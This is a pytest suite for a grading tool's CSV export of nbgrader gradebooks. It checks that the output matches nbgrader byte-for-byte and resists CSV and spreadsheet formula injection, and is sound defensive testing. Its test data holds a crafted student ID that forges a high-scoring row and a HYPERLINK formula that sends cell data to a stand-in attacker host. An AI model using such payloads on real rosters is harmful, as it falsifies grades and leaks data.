"""grader.gradebook.export_csv: what ``nbgrader export`` writes, as CSV that no name can bend.

The gradebooks are nbgrader's own: one assignment ``a1`` whose notebook has two test cells
(2 and 3 points) is recorded once through ``grader.gradebook.record``; every test then adds
its students and scores through nbgrader's Gradebook API on a copy. nbgrader's
CsvExportPlugin is the yardstick where names are ordinary, and the counter-example where they
are not (it joins fields with bare commas).
"""

from __future__ import annotations

import csv
import shutil
import string
import tempfile
from datetime import datetime
from pathlib import Path

import nbformat
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from nbgrader.api import Gradebook
from nbgrader.plugins.export import CsvExportPlugin

from grader.gradebook import COURSE_ID, EXPORT_COLUMNS, export_csv, record
from grader.results import ExerciseResult, NotebookResult

pytestmark = pytest.mark.filterwarnings("ignore:Object of type:sqlalchemy.exc.SAWarning")

ASSIGNMENT, NOTEBOOK = "a1", "nb"
POINTS = {"t1": 2.0, "t2": 3.0}
MAX_SCORE = sum(POINTS.values())
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = range(7)  # assignment .. email; then raw_score, penalty, score, max_score


def source_notebook():
    """A released notebook as nbgrader's generate_assignment sees it: one answer cell and
    the two test cells of POINTS."""
    answer = nbformat.v4.new_code_cell(
        "# YOUR CODE HERE",
        metadata={"nbgrader": {"grade": False, "solution": True, "grade_id": "answer"}},
    )
    tests = [
        nbformat.v4.new_code_cell(
            f"assert True  # {grade_id}",
            metadata={
                "nbgrader": {
                    "grade": True,
                    "solution": False,
                    "locked": True,
                    "grade_id": grade_id,
                    "points": points,
                }
            },
        )
        for grade_id, points in POINTS.items()
    ]
    metadata = {"kernelspec": {"name": "python3", "language": "python", "display_name": "P"}}
    return nbformat.v4.new_notebook(cells=[answer, *tests], metadata=metadata)


@pytest.fixture(scope="module")
def empty_gradebook(tmp_path_factory) -> Path:
    """A gradebook holding assignment a1 (max score 5) and no student."""
    path = tmp_path_factory.mktemp("template") / "gradebook.db"
    url = sqlite_url(path)
    result = NotebookResult("nobody", ASSIGNMENT, NOTEBOOK, exercises(0.0, 0.0))
    record(result, url, source_notebook())
    with Gradebook(url, course_id=COURSE_ID) as gradebook:
        gradebook.remove_student("nobody")
    return path


def sqlite_url(path: Path) -> str:
    return f"sqlite:///{path}"


def exercises(t1: float, t2: float) -> list[ExerciseResult]:
    return [ExerciseResult("t1", t1, POINTS["t1"]), ExerciseResult("t2", t2, POINTS["t2"])]


def copy_of(template: Path, folder: Path) -> str:
    path = folder / "gradebook.db"
    shutil.copy(template, path)
    return sqlite_url(path)


def add_submission(gradebook, student_id, scores, *, penalty=0.0, timestamp=None, **names):
    """``student_id`` with ``names`` (first_name, last_name, email) hands in a1 and scores
    ``scores`` (t1, t2), as ``nbgrader autograde`` would leave it."""
    gradebook.update_or_create_student(student_id, **names)
    gradebook.add_submission(ASSIGNMENT, student_id, timestamp=timestamp)
    submitted = gradebook.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student_id)
    for grade in submitted.grades:
        grade.auto_score = dict(zip(POINTS, scores))[grade.name]
    submitted.late_submission_penalty = penalty
    gradebook.db.commit()


def nbgraders_export(url: str, path: Path) -> str:
    with Gradebook(url, course_id=COURSE_ID) as gradebook:
        CsvExportPlugin(to=str(path)).export(gradebook)
    return path.read_text(encoding="utf-8")


def read_rows(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as file:
        return list(csv.reader(file))


def inert(text: str) -> str:
    """A text cell as export_csv writes it: a would-be formula gets a leading quote."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


# --------------------------------------------------------------------------- nbgrader's export


def test_ordinary_names_export_byte_for_byte_as_nbgrader(empty_gradebook, tmp_path):
    url = copy_of(empty_gradebook, tmp_path)
    with Gradebook(url, course_id=COURSE_ID) as gradebook:
        gradebook.update_or_create_assignment("a0", duedate=datetime(2026, 2, 1, 23, 59))
        gradebook.update_or_create_assignment(ASSIGNMENT, duedate=datetime(2026, 3, 1, 12, 0))
        add_submission(
            gradebook,
            "jdoe",
            (2.0, 1.5),
            first_name="Jane",
            last_name="Doe",
            email="jane.doe@example.org",
            timestamp=datetime(2026, 3, 1, 10, 30, 15, 250000),
        )
        add_submission(gradebook, "bob_42", (0.25, 3.0), penalty=1.0, first_name="Bob")
        add_submission(gradebook, "zoe", (0.0, 0.0), last_name="Zimmer")
        add_submission(gradebook, "ann", (0.5, 0.0), penalty=9.0, last_name="Ames")
        gradebook.update_or_create_student("noshow", first_name="No", last_name="Show")

    export_csv(url, tmp_path / "ours.csv")
    ours = (tmp_path / "ours.csv").read_bytes()
    theirs = nbgraders_export(url, tmp_path / "theirs.csv").encode("utf-8")

    assert ours == theirs
    lines = ours.decode().splitlines()
    assert len(lines) == 1 + 2 * 5  # two assignments, five students each
    jane = "a1,2026-03-01 12:00:00,2026-03-01 10:30:15.250000,jdoe,Doe,Jane,jane.doe@example.org"
    assert f"{jane},3.5,0.0,3.5,5.0" in lines
    assert "a1,2026-03-01 12:00:00,,noshow,Show,No,,0.0,0.0,0.0,5.0" in lines
    assert "a1,2026-03-01 12:00:00,,ann,Ames,,,0.5,9.0,0.0,5.0" in lines  # 0, not below
    assert "a1,2026-03-01 12:00:00,,bob_42,,Bob,,3.25,1.0,2.25,5.0" in lines
    assert not (tmp_path / "ours.csv.partial").exists()


def test_an_empty_gradebook_exports_the_header_alone(empty_gradebook, tmp_path):
    url = copy_of(empty_gradebook, tmp_path)
    export_csv(url, tmp_path / "ours.csv")
    expected = ",".join(EXPORT_COLUMNS) + "\n"
    assert (tmp_path / "ours.csv").read_text() == expected
    assert nbgraders_export(url, tmp_path / "theirs.csv") == expected


# --------------------------------------------------------------------------- hostile names

# Whatever a roster may hold, with the characters that matter to CSV and spreadsheets common.
CSV_SPECIALS = [",", '"', "'", "\n", "\r", "\r\n", "=", "+", "-", "@", "\t", ";", " "]
PIECES = st.one_of(
    st.sampled_from(CSV_SPECIALS),
    st.text(string.ascii_letters + string.digits, min_size=1, max_size=6),
    st.text(st.characters(exclude_categories=("Cs",), exclude_characters="\x00"), max_size=4),
)
TEXTS = st.lists(PIECES, max_size=6).map("".join)
STUDENT_IDS = TEXTS.filter(bool)
SCORES = st.tuples(*(st.integers(0, 4 * int(p)).map(lambda q: q / 4) for p in POINTS.values()))
STUDENTS = st.lists(
    st.tuples(STUDENT_IDS, st.none() | TEXTS, st.none() | TEXTS, st.none() | TEXTS, SCORES),
    min_size=1,
    max_size=4,
    unique_by=lambda student: student[0],
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(students=STUDENTS)
def test_any_names_parse_back_one_row_per_submission(empty_gradebook, students):
    with tempfile.TemporaryDirectory() as folder:
        url = copy_of(empty_gradebook, Path(folder))
        with Gradebook(url, course_id=COURSE_ID) as gradebook:
            for student_id, first, last, email, scores in students:
                names = {"first_name": first, "last_name": last, "email": email}
                add_submission(gradebook, student_id, scores, **names)
        export_csv(url, Path(folder) / "grades.csv")
        header, *rows = read_rows(Path(folder) / "grades.csv")

    assert header == list(EXPORT_COLUMNS)
    assert all(len(row) == len(EXPORT_COLUMNS) for row in rows)
    expected = [
        [ASSIGNMENT, "", "", inert(student_id), inert(last or ""), inert(first or "")]
        + [inert(email or ""), str(sum(scores)), "0.0", str(sum(scores)), str(MAX_SCORE)]
        for student_id, first, last, email, scores in students
    ]
    assert sorted(rows) == sorted(expected)
    for row in rows:
        assert not any(row[column].startswith(FORMULA_STARTS) for column in TEXT_COLUMNS)
        assert float(row[7]) == float(row[9]) <= MAX_SCORE  # no penalty: score == raw score


def test_a_comma_in_an_lms_name_stays_in_its_column(empty_gradebook, tmp_path):
    url = copy_of(empty_gradebook, tmp_path)
    with Gradebook(url, course_id=COURSE_ID) as gradebook:
        add_submission(gradebook, "Doe, Jane_1234", (2.0, 3.0), last_name='Doe "JD", Jr.')
    export_csv(url, tmp_path / "grades.csv")
    assert read_rows(tmp_path / "grades.csv")[1] == [
        *(ASSIGNMENT, "", "", "Doe, Jane_1234", 'Doe "JD", Jr.', "", ""),
        *("5.0", "0.0", "5.0", "5.0"),
    ]


def test_a_crafted_id_can_neither_add_a_row_nor_change_a_score(empty_gradebook, tmp_path):
    crafted = "x,999,999\nmallory,,,,,,,999.0,0.0,999.0,5.0\r\n=1+1"
    url = copy_of(empty_gradebook, tmp_path)
    with Gradebook(url, course_id=COURSE_ID) as gradebook:
        add_submission(gradebook, crafted, (0.0, 0.5), first_name="\r999", email="-2+3")
        add_submission(gradebook, "alice", (2.0, 3.0), first_name="Alice")
    # The attack is real: nbgrader's own export of this gradebook has a row for "mallory".
    theirs = list(csv.reader(nbgraders_export(url, tmp_path / "theirs.csv").splitlines()))
    assert any(row[:1] == ["mallory"] for row in theirs)

    export_csv(url, tmp_path / "ours.csv")
    header, *rows = read_rows(tmp_path / "ours.csv")
    assert len(rows) == 2 and all(len(row) == len(EXPORT_COLUMNS) for row in rows)
    by_id = {row[3]: row for row in rows}
    assert set(by_id) == {crafted, "alice"}  # starts with "x": not a formula, unchanged
    assert by_id[crafted][5:] == ["'\r999", "'-2+3", "0.5", "0.0", "0.5", "5.0"]
    assert by_id["alice"][7:] == ["5.0", "0.0", "5.0", "5.0"]


def test_formulas_are_neutralised_but_negative_numbers_are_not(empty_gradebook, tmp_path):
    url = copy_of(empty_gradebook, tmp_path)
    with Gradebook(url, course_id=COURSE_ID) as gradebook:
        hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
        add_submission(gradebook, hyperlink, (-1.0, 0.0), last_name="@SUM(A1)", email="\tx")
    export_csv(url, tmp_path / "grades.csv")
    (row,) = read_rows(tmp_path / "grades.csv")[1:]
    assert row[3:7] == ["'" + hyperlink, "'@SUM(A1)", "", "'\tx"]
    assert row[7:] == ["-1.0", "0.0", "0.0", "5.0"]  # raw score -1: a number, left alone
